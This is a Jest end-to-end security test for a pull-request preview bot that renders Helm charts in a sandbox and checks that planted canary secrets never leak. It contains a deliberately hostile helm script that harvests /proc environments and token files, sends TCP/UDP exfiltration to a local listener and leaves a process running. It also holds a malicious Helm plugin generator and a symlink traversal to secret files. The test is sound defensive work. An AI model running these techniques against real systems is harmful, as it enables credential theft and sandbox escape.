/**
 * Nothing to steal: the bot runs with canaries — in its own process environment (PREVIEW_BOT_ENV_CANARY, set by the
 * jest global setup before this worker started, so it is in /proc/<pid>/environ), in its settings (the webhook secret,
 * the GitHub App key, a database password, the Slack token) and in files (a fake ServiceAccount token and a fake Azure
 * federated token, named by the settings). Hostile repositories are deployed through the real server (signed webhooks,
 * the real sandboxed renderer):
 * - a Helm chart rendered by a **compromised helm** (a program that reads every /proc/<pid>/environ, the canary files,
 *   its own environment, tries TCP and UDP to a listener of this test, and leaves a detached process behind) — what a
 *   fully owned tool could do;
 * - the generator-file attack (a Helm generator with a repository and a configHome in the PR);
 * - a link chain to the canary files.
 * No canary may appear in any object applied, any check run or comment, any Slack message or any log line; the
 * listener must see no connection; no process the render started may survive it. Run with namespaces allowed, and
 * with unshare refused as in a pod (the sandbox launched through deny-unshare, as uid 65534: Landlock), and through
 * the renderer workload (`preview-bot renderer` on loopback, the bot pointed at it with RENDERER_URL).
 *
 * The canaries are within reach of the renderer's uid when nothing confines it: the files are world-readable, and a
 * stand-in bot process runs as that uid with the environment canary (as the bot and a same-uid renderer would in a
 * pod). A control run without any sandbox (test/support/unconfined-launcher.mjs) must leak every one of them — so
 * these checks are shown to catch what they look for.
 */
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { spawn, type ChildProcess } from "node:child_process";
import { generateKeyPairSync, randomUUID } from "node:crypto";
import { createSocket } from "node:dgram";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:net";
import os from "node:os";
import path from "node:path";
import nock from "nock";
import { startRenderer } from "../../src/cli/renderer.js";
import { loadEnv } from "../../src/env.js";
import { createLogger } from "../../src/logger.js";
import { pull, prEvent, startHarness, type Harness } from "../support/e2e-bot.js";
import { fakeGitHub } from "../support/github-fake.js";
import { TOOLS_BIN } from "../support/paths.js";
import { describeWithTools } from "../support/tools.js";
import { waitFor } from "../support/wait.js";

const SANDBOX = path.join(TOOLS_BIN, "preview-sandbox");
const DENY_UNSHARE = path.join(TOOLS_BIN, "deny-unshare");
const MARKER = `sleeper-${randomUUID()}`;

/** Every canary value, and where each one lives. */
const canaries = {
  env: process.env.PREVIEW_BOT_ENV_CANARY ?? "",
  webhook: `webhook-canary-${randomUUID()}`,
  slack: `xoxb-canary-${randomUUID()}`,
  dbPassword: `dbpw${randomUUID().replace(/-/g, "")}`,
  serviceAccount: `sa-token-canary-${randomUUID()}`,
  azureToken: `azure-token-canary-${randomUUID()}`,
  privateKeyLine: "",
};

const work = mkdtempSync(path.join(os.tmpdir(), "canary-"));
chmodSync(work, 0o755);
const secretsDir = path.join(work, "secrets");
const hostileTools = path.join(work, "hostile-tools");

/** The compromised helm: node (visible in the sandbox), reading whatever it can and printing it as a ConfigMap. */
function writeHostileHelm(port: number): void {
  mkdirSync(hostileTools, { recursive: true });
  const script = `#!${process.execPath}
const fs = require("fs"), net = require("net"), dgram = require("dgram"), cp = require("child_process");
const found = [];
const read = (p) => { try { found.push(p + " => " + fs.readFileSync(p, "utf8").slice(0, 20000)); } catch (e) { found.push(p + " => " + e.code); } };
let pids = [];
try { pids = fs.readdirSync("/proc").filter((d) => /^\\d+$/.test(d)); } catch (e) { found.push("/proc => " + e.code); }
for (const pid of pids) read("/proc/" + pid + "/environ");
for (const p of ${JSON.stringify([path.join(secretsDir, "token"), path.join(secretsDir, "azure-token"), "/proc/1/environ", "/proc/self/environ"])}) read(p);
found.push("env => " + JSON.stringify(process.env));
try { const s = net.connect(${port}, "127.0.0.1"); s.on("error", () => {}); s.write("tcp exfil"); } catch (e) { found.push("tcp => " + e.code); }
try { const u = dgram.createSocket("udp4"); u.on("error", () => {}); u.send("udp exfil", ${port}, "127.0.0.1"); } catch (e) { found.push("udp => " + e.code); }
try { cp.spawn(process.execPath, ["-e", "setTimeout(() => {}, 120000)", ${JSON.stringify(MARKER)}], { detached: true, stdio: "ignore" }).unref(); } catch (e) { found.push("spawn => " + e.code); }
const loot = Buffer.from(found.join("\\n")).toString("base64");
process.stdout.write("apiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: loot\\ndata:\\n  plain: " + JSON.stringify(found.join("\\n").slice(0, 200000)) + "\\n  b64: " + JSON.stringify(loot.slice(0, 200000)) + "\\n");
setTimeout(() => process.exit(0), 300);
`;
  writeFileSync(path.join(hostileTools, "helm"), script, { mode: 0o755 });
}

/** Processes on this host whose command line carries the sleeper's marker. */
function survivors(): number[] {
  return readdirSync("/proc")
    .filter((d) => /^\d+$/.test(d))
    .filter((pid) => {
      try {
        return readFileSync(`/proc/${pid}/cmdline`, "utf8").includes(MARKER);
      } catch {
        return false;
      }
    })
    .map(Number);
}

interface Mode {
  name: string;
  sandbox: string;
  isolation: RegExp;
  /** The control: nothing confines the renderer, and the canaries must be found. */
  control?: boolean;
  /** Render in the renderer workload (`preview-bot renderer`, RENDERER_URL) instead of beside the bot. */
  workload?: boolean;
}

const UNCONFINED = path.join(import.meta.dirname, "..", "support", "unconfined-launcher.mjs");

const MODES: Mode[] = [
  {
    name: "no sandbox at all (the control)",
    sandbox: `${process.execPath} ${UNCONFINED}`,
    isolation: /isolated: none/,
    control: true,
  },
  { name: "namespaces allowed", sandbox: SANDBOX, isolation: /isolated: namespaces/ },
  {
    name: "unshare refused, as in a pod",
    sandbox: `${DENY_UNSHARE} --uid 65534 -- ${SANDBOX}`,
    isolation: /isolated: landlock/,
  },
  {
    name: "the renderer workload (RENDERER_URL), as in a cluster",
    sandbox: SANDBOX,
    isolation: /isolated: namespaces, renderer workload/,
    workload: true,
  },
];

describeWithTools(["preview-sandbox", "deny-unshare", "helm", "kustomize"], "nothing to steal", () => {
  let listener: Server;
  let standIn: ChildProcess | undefined;
  let port = 0;
  const connections: string[] = [];
  const udp = createSocket("udp4");

  beforeAll(async () => {
    mkdirSync(secretsDir, { recursive: true });
    writeFileSync(path.join(secretsDir, "token"), canaries.serviceAccount, { mode: 0o644 });
    writeFileSync(path.join(secretsDir, "azure-token"), canaries.azureToken, { mode: 0o644 });
    // The bot's stand-in with the environment canary, as the uid a render gets (readable by it without a sandbox).
    standIn = spawn(
      DENY_UNSHARE,
      ["--uid", "65534", "--allow-unshare", "--", process.execPath, "-e", "setInterval(() => {}, 1e9)"],
      {
        env: { PREVIEW_BOT_ENV_CANARY: canaries.env },
        stdio: "ignore",
      },
    );
    listener = createServer((s) => {
      connections.push("tcp");
      s.destroy();
    });
    await new Promise<void>((ok) => listener.listen(0, "127.0.0.1", ok));
    port = (listener.address() as { port: number }).port;
    await new Promise<void>((ok) => udp.bind(port, "127.0.0.1", ok));
    udp.on("message", () => connections.push("udp"));
    writeHostileHelm(port);
    expect(canaries.env).toMatch(/^env-canary-/);
  });

  afterAll(async () => {
    standIn?.kill("SIGKILL");
    listener?.close();
    udp.close();
    for (const pid of survivors()) process.kill(pid, "SIGKILL");
    rmSync(work, { recursive: true, force: true });
  });

  describe.each(MODES)("with $name", (mode) => {
    let h: Harness;
    let gh: ReturnType<typeof fakeGitHub>;
    const logLines: string[] = [];
    const slackMessages: string[] = [];

    let renderer: { url: string; close(): Promise<void> } | undefined;

    beforeAll(async () => {
      if (!nock.isActive()) nock.activate(); // the previous mode's harness restored it
      const { privateKey } = generateKeyPairSync("rsa", { modulusLength: 2048 });
      const pem = privateKey.export({ type: "pkcs1", format: "pem" }).toString();
      canaries.privateKeyLine = pem.split("\n")[5]!;
      if (mode.workload) {
        // The workload as `preview-bot renderer` starts it, with its own settings: none of the bot's secrets.
        const env = loadEnv({
          PATH: `${hostileTools}:${process.env.PATH!}`,
          RENDER_SANDBOX: mode.sandbox,
          HOST: "127.0.0.1",
          WORK_DIR: work,
        });
        const destination = { write: (line: string) => void logLines.push(line) } as unknown as NodeJS.WritableStream;
        renderer = await startRenderer(env, createLogger({ level: "info", destination }), 0);
      }
      h = await startHarness({
        logLines,
        env: {
          PATH: `${hostileTools}:${process.env.PATH!}`,
          RENDER_SANDBOX: mode.sandbox,
          ...(renderer ? { RENDERER_URL: renderer.url } : {}),
          PRIVATE_KEY: pem,
          WEBHOOK_SECRET: canaries.webhook,
          SLACK_BOT_TOKEN: canaries.slack,
          SLACK_SIGNING_SECRET: `signing-${randomUUID()}`,
          SLACK_DEFAULT_CHANNEL: "C0CANARY",
          // A state database URL carrying a canary password (never connected to: the queue stays in memory).
          PREVIEW_DATABASE_URL: process.env.TEST_PG_URL!,
          AZURE_FEDERATED_TOKEN_FILE: path.join(secretsDir, "azure-token"),
          AZURE_CLIENT_ID: "00000000-0000-0000-0000-000000000001",
          AZURE_TENANT_ID: "00000000-0000-0000-0000-000000000002",
          BACKUP_SCRATCH_URL: `postgres://scratch:${canaries.dbPassword}@127.0.0.1:9/scratch`,
        },
        secret: canaries.webhook,
      });
      nock("https://slack.com")
        .persist()
        .post(/^\/api\/chat\.(postMessage|update)$/)
        .reply(async (req: Request) => {
          slackMessages.push(await req.text());
          return [
            200,
            JSON.stringify({ ok: true, ts: "1.1", channel: "C0CANARY" }),
            { "content-type": "application/json" },
          ];
        });
      gh = fakeGitHub({
        owner: "Codertocat",
        repo: "Hello-World",
        installationId: 2,
        config: "manifests: { path: chart }\n",
      });
    });

    afterAll(async () => {
      await h?.stop();
      await renderer?.close();
    });

    /** Deploy `files` as PR `number` through signed webhooks; the render's step line from the check run. */
    async function deploy(
      number: number,
      files: Record<string, string>,
      links: Array<[string, string]> = [],
    ): Promise<string> {
      const sha = String(number).padStart(40, "a");
      gh.state.tarballs.set(sha, await h.tarball(sha, files, links));
      const p = pull({ number, sha });
      gh.state.pulls.set(number, p);
      expect(await h.send("pull_request", prEvent("opened", p))).toBe(200);
      const run = gh.state.checkRuns.find((r) => r.head_sha === sha);
      return JSON.stringify(run?.output ?? {});
    }

    function everythingSeen(): string {
      const objects: unknown[] = [];
      for (const [apiVersion, kind] of [
        ["v1", "ConfigMap"],
        ["v1", "Secret"],
        ["v1", "Namespace"],
        ["v1", "Service"],
        ["apps/v1", "Deployment"],
      ] as const)
        objects.push(...h.fake.list(apiVersion, kind));
      return [
        JSON.stringify(objects),
        JSON.stringify(gh.state.writes),
        JSON.stringify(gh.state.checkRuns),
        slackMessages.join("\n"),
        logLines.join("\n"),
      ].join("\n");
    }

    /** The canaries found in what the bot applied, wrote and logged (plainly, or base64 as the loot carries them). */
    function leaked(): string[] {
      const seen = everythingSeen();
      return Object.entries(canaries)
        .filter(([, value]) => value.length > 10)
        .filter(
          ([, value]) => seen.includes(value) || seen.includes(Buffer.from(value).toString("base64").slice(0, 24)),
        )
        .map(([name]) => name);
    }

    function expectNoCanary(): void {
      for (const value of Object.values(canaries)) expect(value.length).toBeGreaterThan(10);
      expect(leaked()).toEqual([]);
    }

    it("a compromised helm finds nothing, reaches nothing and leaves nothing running", async () => {
      const detail = await deploy(61, {
        "chart/Chart.yaml": "apiVersion: v2\nname: app\nversion: 0.1.0\n",
        "chart/templates/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: app\n",
      });
      expect(detail).toMatch(mode.isolation);
      if (mode.control) {
        // Unconfined, the same tool gets the environment canary (through the stand-in's /proc/<pid>/environ), both
        // token files, a connection out, and a process that outlives the render: the checks below do see leaks.
        await waitFor(
          "the unconfined tool's connection and its leftover process",
          () => connections.length > 0 && survivors().length > 0,
        );
        expect(leaked()).toEqual(expect.arrayContaining(["env", "serviceAccount", "azureToken"]));
        expect(connections).toContain("tcp");
        expect(survivors().length).toBeGreaterThan(0);
        for (const pid of survivors()) process.kill(pid, "SIGKILL");
        connections.length = 0;
        return;
      }
      // The tool ran (its loot was applied) and got nothing of the bot's.
      const loot = h.fake.list("v1", "ConfigMap").find((c) => c.metadata.name === "loot") as
        { data?: Record<string, string> } | undefined;
      expect(loot?.data?.plain).toBeDefined();
      expectNoCanary();
      expect(connections).toEqual([]);
      expect(survivors()).toEqual([]);
    });

    // The two attacks below are refused before any tool runs, the same with or without a sandbox: not part of the control.
    const confined = mode.control ? it.skip : it;

    confined("the generator-file attack is refused, and leaks nothing", async () => {
      const detail = await deploy(62, {
        "chart/kustomization.yaml": "generators:\n- gen.yaml\n",
        "chart/gen.yaml":
          "apiVersion: builtin\nkind: HelmChartInflationGenerator\nmetadata:\n  name: x\nname: evil\nrepo: evil://charts\nconfigHome: ../helm-home\n",
        "helm-home/plugins/evil/plugin.yaml":
          'name: evil\nversion: 0.1.0\ndownloaders:\n- command: "bin/pull.sh"\n  protocols: ["evil"]\n',
        "helm-home/plugins/evil/bin/pull.sh": "#!/bin/sh\nenv\n",
      });
      expect(detail).toMatch(/pulls the chart from evil:\/\/charts/);
      expectNoCanary();
    });

    confined("a link chain to the canary files reads nothing", async () => {
      const up = (n: number) => Array(n).fill("..").join("/");
      const detail = await deploy(
        63,
        {
          "chart/Chart.yaml": "apiVersion: v2\nname: app\nversion: 0.1.0\n",
          "chart/templates/cm.yaml":
            'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: leak\ndata:\n  token: {{ .Files.Get "token" | quote }}\n',
          "chart/r/.keep": "",
        },
        [
          ["chart/a/b/hop", `${up(2)}/r`],
          ["chart/token", `a/b/hop/${up(30)}${secretsDir}/token`],
        ],
      );
      // Rendered (the bot did not give up), with the chain's link removed before helm ran.
      expect(detail).toMatch(mode.isolation);
      expect(detail).toMatch(/chart\/token: .* to a\/b\/hop\/.* (passes through the link|points outside the checkout)/);
      expectNoCanary();
      expect(existsSync(path.join(secretsDir, "token"))).toBe(true);
    });
  });
});
